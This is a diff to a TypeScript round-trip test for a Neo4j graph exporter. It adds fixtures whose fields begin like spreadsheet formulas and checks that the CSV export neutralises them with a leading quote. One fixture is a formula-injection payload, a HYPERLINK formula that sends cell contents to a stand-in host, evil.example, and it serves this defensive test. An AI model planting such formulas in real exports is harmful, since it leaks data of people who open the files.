@@ -3,7 +3,8 @@
  * GEXF by graphology's parsers, GraphML and GEXF also by NetworkX, the Cypher script replayed into a
  * second, empty Neo4j, and the CSV files loaded there with LOAD CSV. The graph is the seed articles
  * plus a person, a place and a document whose text holds quotes, <, &, line breaks, tabs, backticks,
- * backslashes and non-Latin scripts, all of which must come back as they went.
+ * backslashes and non-Latin scripts, and a person whose id, name and aliases start like spreadsheet
+ * formulas (=, +, -, @, tab, CR), all of which must come back as they went.
  */
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
@@ -31,6 +32,9 @@ import { tempDirs } from '../helpers/temp.js';
 const ODD = `Ōe "Ken" <Zaburō> & 'Sons'\nline two\r\n\ttabbed 王毅 Москва العربية \`tick\` back\\slash ; a,b 🙂 `;
 const SENTENCE = `He said: "<b>&amp;</b>" — then left; 'twas\nover, 終わり. -- */ // \\n`;
 
+/** Text a spreadsheet would run: the CSV writes it with a ' in front, and LOAD CSV must take that off. */
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+
 /** Fixture nodes beside the seeds, shaped as the loader writes them (docs/data-model.md). */
 async function addOddities(db: Database): Promise<void> {
   await db.write((tx) =>
@@ -39,8 +43,10 @@ async function addOddities(db: Database): Promise<void> {
        CREATE (b:Entity:Place {id: 'place:test-moscow', name: 'Москва', aliases: ['موسكو'], ambiguous: false})
        CREATE (d:Document {id: 'doc:test-odd', title: $odd, text: $sentence, file: 'odd.txt', format: 'txt', sha256: 'x', loadedAt: datetime('2026-11-23T10:00:00.123Z')})
        CREATE (a)-[:MET {evDocs: ['doc:test-odd'], evSentences: [$sentence], evStarts: [0], evEnds: [42], evHedged: [false], documents: 1, hedged: false}]->(b)
-       CREATE (a)-[:MENTIONED_IN {count: 1, starts: [0], ends: [5]}]->(d)`,
-      { odd: ODD, sentence: SENTENCE },
+       CREATE (a)-[:MENTIONED_IN {count: 1, starts: [0], ends: [5]}]->(d)
+       CREATE (f:Entity:Person {id: '=person:formula', name: $formula, aliases: ['-1+1', "'=quoted", '@me', '+x'], titles: ['\t=tab', '\r=cr', '=2'], ambiguous: false})
+       CREATE (f)-[:MENTIONED_IN {count: -1, starts: [-3], ends: [5]}]->(d)`,
+      { odd: ODD, sentence: SENTENCE, formula: FORMULA },
     ),
   );
 }
@@ -230,6 +236,9 @@ describe('export formats read back', () => {
     assert.equal(unzip.status, 0, unzip.stderr);
     assert.equal(unzip.stdout.trim(), 'README.txt,nodes.csv,relationships.csv');
     assert.match(readFileSync(path.join(dir, 'README.txt'), 'utf8'), /neo4j-admin database import full/);
+    const nodesCsv = readFileSync(path.join(dir, 'nodes.csv'), 'utf8');
+    assert.ok(nodesCsv.includes(`'=person:formula,`), 'an id that starts like a formula is written with a quote');
+    assert.ok(nodesCsv.includes(`"'${FORMULA.replace(/"/g, '""')}"`), 'so is a name');
 
     await resetGraph(targetDb);
     await loadCsv(targetDb, dir);
@@ -254,11 +263,15 @@ function conversion(type: string, value: string): string {
 
 /** LOAD CSV, with labels and types from the files (dynamic labels and types, Neo4j 5.26). */
 async function loadCsv(db: Database, dir: string): Promise<void> {
+  // Each field with the formula guard's ' taken off by the expression the export's README.txt gives.
+  const recipe = /CASE WHEN field .* END/.exec(readFileSync(path.join(dir, 'README.txt'), 'utf8'))?.[0];
+  assert.ok(recipe, 'README.txt says how to take off the formula guard');
+  const field = (name: string) => recipe.replaceAll('field', `row[${JSON.stringify(name)}]`);
   const setters = (file: string, variable: string) =>
     columns(readFileSync(path.join(dir, file), 'utf8').split('\n', 1)[0]!)
       .filter((c) => c.name !== '')
       .map((c) => {
-        const cell = `row[${JSON.stringify(c.field)}]`;
+        const cell = field(c.field);
         const value = c.list ? `[x IN split(${cell}, ${JSON.stringify(ARRAY_DELIMITER)}) | ${conversion(c.type, 'x')}]` : conversion(c.type, cell);
         return `${variable}.\`${c.name}\` = CASE WHEN ${cell} IS NULL THEN null ELSE ${value} END`;
       })
@@ -266,13 +279,13 @@ async function loadCsv(db: Database, dir: string): Promise<void> {
   const url = (file: string) => `file://${path.join(dir, file)}`;
   await db.write((tx) => tx.run('CREATE CONSTRAINT csv_key IF NOT EXISTS FOR (n:CsvImport) REQUIRE n.key IS UNIQUE'));
   await db.write((tx) =>
-    tx.run(`LOAD CSV WITH HEADERS FROM $url AS row CREATE (n:CsvImport:$(split(row[':LABEL'], ';')) {key: row[':ID']}) SET ${setters('nodes.csv', 'n')}`, { url: url('nodes.csv') }),
+    tx.run(`LOAD CSV WITH HEADERS FROM $url AS row CREATE (n:CsvImport:$(split(${field(':LABEL')}, ';')) {key: ${field(':ID')}}) SET ${setters('nodes.csv', 'n')}`, { url: url('nodes.csv') }),
   );
   await db.write((tx) =>
     tx.run(
       `LOAD CSV WITH HEADERS FROM $url AS row
-       MATCH (a:CsvImport {key: row[':START_ID']}), (b:CsvImport {key: row[':END_ID']})
-       CREATE (a)-[r:$(row[':TYPE'])]->(b) SET ${setters('relationships.csv', 'r')}`,
+       MATCH (a:CsvImport {key: ${field(':START_ID')}}), (b:CsvImport {key: ${field(':END_ID')}})
+       CREATE (a)-[r:$(${field(':TYPE')})]->(b) SET ${setters('relationships.csv', 'r')}`,
       { url: url('relationships.csv') },
     ),
   );
